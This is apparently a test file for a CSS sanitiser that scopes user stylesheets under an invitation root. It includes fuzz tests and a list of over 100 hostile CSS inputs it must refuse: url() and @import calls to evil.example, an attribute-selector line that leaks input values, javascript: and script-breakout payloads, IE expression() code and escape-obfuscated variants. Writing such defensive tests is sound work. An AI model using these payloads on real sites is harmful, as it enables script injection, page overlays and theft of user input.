import { problem } from '@janur/contracts';
import { type CssNode, parse, walk } from 'css-tree';
import * as fc from 'fast-check';
import { FUNCTIONS, SHEET_PROPERTIES } from './allowed.ts';
import { readDeclarations, readSheet, servedCss } from './index.ts';

const R = '[data-invitation]';

test.each([
  ['.hero { color: red }', `${R} .hero{color:red}`],
  ['h1, .a > .b:hover::before { color: #abc !important }', `${R} h1,${R} .a>.b:hover::before{color:#abc!important}`],
  [':root { --base: #fff }', `${R}{--base:#fff}`],
  ['html body .a { color: var(--x, red) }', `${R} .a{color:var(--x,red)}`],
  ['body > main { gap: 1px }', `${R} main{gap:1px}`],
  ['@media (width >= 600px) { .a { margin: 0 auto } }', `@media (width>=600px){${R} .a{margin:0 auto}}`],
  ['@supports (display: grid) { .a { display: grid } }', `@supports (display:grid){${R} .a{display:grid}}`],
  [
    '@keyframes spin { from { rotate: 0deg } 50% { opacity: .5 } } .a { animation: spin 1s infinite } .b { animation-name: other }',
    `@keyframes invitation-spin{from{rotate:0deg}50%{opacity:.5}}${R} .a{animation:invitation-spin 1s infinite}${R} .b{animation-name:other}`,
  ],
  [
    '.a { background: url("/files/ab/cover.webp") center / cover }',
    `${R} .a{background:url(/files/ab/cover.webp)center/cover}`,
  ],
  ['/* ours */ .a { /*! kept? */ color: red; } /*! nor this */', `${R} .a{color:red}`],
  ['.a { position: absolute; inset: 0 }', `${R} .a{position:absolute;inset:0}`],
  [
    '.a:not(.b):nth-child(2n+1):has(> img) { display: none }',
    `${R} .a:not(.b):nth-child(2n+1):has(>img){display:none}`,
  ],
  ['.a { grid-template: "a b" 1fr / [x] auto }', `${R} .a{grid-template:"a b"1fr/[x]auto}`],
  [':lang(id) p { quotes: "“" "”" }', `${R} :lang(id) p{quotes:"“""”"}`],
  ['', ''],
])('a sheet is served below the invitation’s root: %s', (text, css) => {
  expect(readSheet(text)).toEqual({ css });
});

/** What must not come through, in a sheet; each is refused. */
const SHEET_ATTACKS = [
  // other places
  '@import "https://evil.example/x.css";',
  "@import url('//evil.example');",
  '@IMPORT "x";',
  '@\\69mport "x";',
  '@charset "utf-8";',
  '@namespace svg url(http://www.w3.org/2000/svg);',
  '@font-face { font-family: x; src: url(https://evil.example/x.woff2) }',
  '@font-face { font-family: x; src: local("x"); unicode-range: U+41 }',
  '@page { margin: 0 }',
  '@layer a { .b { color: red } }',
  '@property --x { syntax: "*"; inherits: true; initial-value: url(//evil) }',
  '@container (width > 1px) { .a { color: red } }',
  '@scope (html) { .a { color: red } }',
  '@view-transition { navigation: auto }',
  '@document url(http://x) { .a { color: red } }',
  '@-webkit-keyframes x { from { color: red } }',
  '.a { background: url(https://evil.example/a.png) }',
  '.a { background: url(//evil.example/a.png) }',
  '.a { background: url(\\\\evil.example\\a) }',
  '.a { background: url("https:evil.example") }',
  '.a { background: url(/files/../api/public/auth/logout) }',
  '.a { background: url(/api/public/auth/detail) }',
  '.a { background: url(data:image/svg+xml,<svg/onload=alert(1)>) }',
  '.a { background: url(javascript:alert(1)) }',
  '.a { background: URL("HTTPS://EVIL.EXAMPLE") }',
  '.a { background: u\\72l(//evil.example) }',
  '.a { background: \\75 rl(//evil.example) }',
  '.a { background: u/**/rl(//evil.example) }',
  '.a { background: image-set("https://evil.example/a.png" 1x) }',
  '.a { background: -webkit-image-set(url(https://evil.example) 1x) }',
  '.a { background: image("https://evil.example") }',
  '.a { background: src("https://evil.example") }',
  '.a { background: cross-fade(url(//evil.example), red) }',
  '.a { background: element(#secret) }',
  '.a { background: paint(x) }',
  '.a { --x: url(https://evil.example); background: var(--x) }',
  '.a { background: var(--x, url(https://evil.example)) }',
  '.a { content: url(https://evil.example) }',
  '.a { content: attr(value) }',
  '.a { cursor: url(//evil.example), auto }',
  '.a { list-style: url(//evil.example) }',
  '.a { border-image: url(//evil.example) 30 }',
  '.a { mask: url(https://evil.example/#m) }',
  '.a { filter: url(https://evil.example/#f) }',
  '.a { shape-outside: url(//evil.example) }',
  '.a { clip-path: url(//evil.example#c) }',
  'input[value^="a"] { background: url(https://evil.example/?a) }',
  '@supports (background: url(//evil.example)) { .a { color: red } }',
  // scripts of old
  '.a { width: expression(alert(1)) }',
  '.a { width: exp/**/ression(alert(1)) }',
  '.a { behavior: url(x.htc) }',
  '.a { -ms-behavior: url(x.htc) }',
  '.a { -moz-binding: url(//evil.example/x.xml#x) }',
  '.a { filter: progid:DXImageTransform.Microsoft.gradient(startColorstr=#000) }',
  '.a { *zoom: expression(1) }',
  '.a { src: javascript:alert(1) }',
  // over everything
  '.a { position: fixed }',
  '.a { position: FIXED }',
  '.a { position: f\\69xed }',
  '.a { p\\6fsition: fixed }',
  '.a { --p: fixed; position: var(--p) }',
  '.a { position: absolute fixed }',
  '@media print { .a { position: fixed } }',
  '@keyframes x { from { position: fixed } }',
  '.a { all: unset }',
  '.a { pointer-events: none }',
  '.a { user-modify: read-write }',
  // outside the invitation
  'html.dark .a { color: red }',
  'body + .a { color: red }',
  ':root ~ .a { color: red }',
  ':root, html ~ div { display: none }',
  '+ .a { color: red }',
  '~ .a { color: red }',
  '> .a { color: red }',
  '.a body { color: red }',
  '.a:is(html *) { color: red }',
  ':host { color: red }',
  ':host-context(.a) { color: red }',
  '::slotted(.a) { color: red }',
  ':scope { color: red }',
  '::backdrop { color: red }',
  '::view-transition { color: red }',
  '::part(x) { color: red }',
  '*|* { color: red }',
  '& .a { color: red }',
  '.a { & { color: red } }',
  '.a { .b { color: red } }',
  '.a { color: red; @media print { color: blue } }',
  // broken out of
  '</style><script>alert(1)</script>',
  '.a { content: "</style><script>alert(1)</script>" }',
  '.a { content: "\\3c/style><script>" }',
  '.a[data-x="</style>"] { color: red }',
  '.a { --x: "<!--" }',
  '<!-- .a { color: red } -->',
  '.a { color: red }} body { display: none }',
  '.a } html { display: none }',
  '.a { color: red; } ; @import "x"; {',
  '.a { color: "red } \n .b { display: none }',
  '.a { background: url(/files/a b) }',
  '.a { --x: ] }',
  '@media { .a { --x: ) } }',
  '@keyframes { from { color: red } }',
  '@keyframes x { .a { color: red } }',
  '@keyframes a b { from { color: red } }',
  '@media screen; .a { color: red }',
  '{ color: red }',
  '.a { color }',
  '.a { color: red !ie }',
  `.a { width: ${'calc('.repeat(5000)}1px${')'.repeat(5000)} }`,
  '@media all{'.repeat(5000),
  ':not('.repeat(5000),
];

test('the corpus of attacks is a large one', () => {
  expect(new Set(SHEET_ATTACKS).size).toBeGreaterThanOrEqual(100);
});
test.each(SHEET_ATTACKS.map((text) => [text.slice(0, 90), text]))('refuses %s', (_, text) => {
  expect(readSheet(text)).toEqual({ problem: { code: expect.stringMatching(/^css_/), params: expect.anything() } });
});

test('says where what is refused stands', () => {
  expect(readSheet('.a { color: red }\n.b {\n  position: fixed }')).toEqual({
    problem: problem('css_position', { line: 3, column: 3 }),
  });
  expect(readSheet('.a { src: local(x) }')).toEqual({
    problem: problem('css_not_allowed', { line: 1, column: 6, name: 'src' }),
  });
  expect(readSheet('@import "x";')).toEqual({
    problem: problem('css_not_allowed', { line: 1, column: 1, name: '@import' }),
  });
});

test.each([
  ['object-position: 50% 20%', 'object-position:50% 20%'],
  ['gap: 2px; filter: sepia(0.2);', 'gap:2px;filter:sepia(0.2)'],
  ['/* none */', ''],
])('declarations are served as they are: %s', (text, css) => {
  expect(readDeclarations(text)).toEqual({ css });
});

test.each([
  'position: absolute',
  'position: fixed',
  'color: red } .b { color: red',
  '.a { color: red }',
  'background: url(//evil.example)',
  'content: "x"',
  '@import "x"',
  'opacity: expression(1)',
  'z-index: 999',
  '--x: url(https://evil.example)',
  'x',
  'opacity: 1 }',
  'filter: url(#x)',
])('refuses the declarations %s', (text) => {
  expect(readDeclarations(text)).toEqual({
    problem: { code: expect.stringMatching(/^css_/), params: expect.anything() },
  });
});

test('serves nothing of what was stored before the rules', () => {
  expect(servedCss(readSheet, '@import "x";')).toBeNull();
  expect(servedCss(readSheet, null)).toBeNull();
  expect(servedCss(readSheet, '.a { color: red }')).toBe(`${R} .a{color:red}`);
});

/** Pieces that mean something to CSS, in any order, so that some of it parses and much of it nearly does. */
const PIECES = fc.constantFrom(
  ...'.a|html|body|:root|>|+|~|,| |{|}|(|)|[|]|;|:|"|\'|/*|*/|\\|\\75|@media|@keyframes|@import|(width>1px)|spin|from'.split(
    '|',
  ),
  ...'url(|//evil.example|/files/ab.webp|position|fixed|absolute|color|red|--x|var(--x)|animation|expression(|</style>'.split(
    '|',
  ),
  ...'!important|&|*|::before|:hover|50%|0|1px|\n|<!--|{color:red}|{position:absolute}|@media print{|.a{opacity:1}'.split(
    '|',
  ),
);
const almostCss = fc.oneof(
  fc.array(PIECES, { maxLength: 25 }).map((pieces) => pieces.join('')),
  fc
    .array(
      fc.constantFrom(
        '.a{color:red}',
        'html,body .b{gap:1px}',
        '@media print{.c{opacity:0}}',
        '.d{--x:url(/files/a)}',
        '@keyframes k{to{opacity:0}}',
        '.e{animation:k 1s}',
        '.f{position:sticky}',
      ),
      { maxLength: 6 },
    )
    .map((rules) => rules.join(' ')),
  fc.string({ unit: 'binary', maxLength: 60 }),
);

test('whatever is let through parses again and holds allowed things below the root alone', () => {
  let served = 0;
  fc.assert(
    fc.property(almostCss, (text) => {
      const result = readSheet(text);
      if ('problem' in result) return;
      if (result.css !== '') served += 1;
      expectHarmless(result.css);
    }),
    { numRuns: 5000, seed: 20270612 },
  );
  expect(served).toBeGreaterThan(500);
});

function expectHarmless(css: string): void {
  const tree = parse(css, {
    parseCustomProperty: true,
    onParseError(error) {
      throw error;
    },
  });
  expect(css).not.toMatch(/<[/!]|evil\.example|expression|@import/i);
  walk(tree, function (this: { atrule: CssNode | null; rule: CssNode | null }, node) {
    if (node.type === 'Atrule') expect(['media', 'supports', 'keyframes']).toContain(node.name.toLowerCase());
    if (node.type === 'Url') expect(node.value).toMatch(/^\/files\//);
    if (node.type === 'Function') expect(FUNCTIONS.has(node.name.toLowerCase())).toBe(true);
    if (node.type === 'Declaration' && this.rule && !node.property.startsWith('--')) {
      expect(SHEET_PROPERTIES.has(node.property.toLowerCase().replace(/^-webkit-/, ''))).toBe(true);
      if (node.property.toLowerCase() === 'position') expect(JSON.stringify(node.value)).not.toMatch(/fixed/i);
    }
    const isInKeyframes = this.atrule?.type === 'Atrule' && this.atrule.name.toLowerCase() === 'keyframes';
    if (node.type === 'Rule' && !isInKeyframes) {
      expect(node.prelude.type).toBe('SelectorList');
      if (node.prelude.type !== 'SelectorList') return;
      for (const selector of node.prelude.children) {
        const [root, next] = selector.type === 'Selector' ? selector.children.toArray() : [];
        expect(root).toMatchObject({ type: 'AttributeSelector', name: { name: 'data-invitation' } });
        if (next) expect(next).toMatchObject({ type: 'Combinator', name: ' ' });
      }
    }
  });
}
